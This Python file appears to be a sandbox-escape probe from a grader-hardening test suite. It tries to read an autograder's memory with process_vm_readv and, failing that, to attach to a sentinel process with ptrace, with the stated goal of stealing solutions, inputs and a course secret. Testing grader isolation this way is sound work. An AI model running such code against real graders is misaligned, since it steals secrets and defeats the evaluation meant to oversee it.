"""Reads the judge's memory by process_vm_readv, and by ptrace.

item: C /proc/<pid> of the grader
harm: solutions, inputs and the course secret are read
deserves: everything
witness: canary
control: unconfined
"""

import ctypes
import os


class Piece(ctypes.Structure):
    _fields_ = (("base", ctypes.c_void_p), ("length", ctypes.c_size_t))


def attempt():
    libc = ctypes.CDLL(None, use_errno=True)
    buffer = ctypes.create_string_buffer(TARGETS["length"])
    here = Piece(ctypes.addressof(buffer), TARGETS["length"])
    there = Piece(TARGETS["address"], TARGETS["length"])
    count = libc.process_vm_readv(
        TARGETS["judge"], ctypes.byref(here), 1, ctypes.byref(there), 1, 0
    )
    if count > 0:
        return buffer.raw[:count].decode()
    seize = 0x4206
    if libc.ptrace(seize, TARGETS["sentinel"], 0, 0) == 0:
        libc.ptrace(17, TARGETS["sentinel"], 0, 0)
        return f"traced {os.getpid()}"
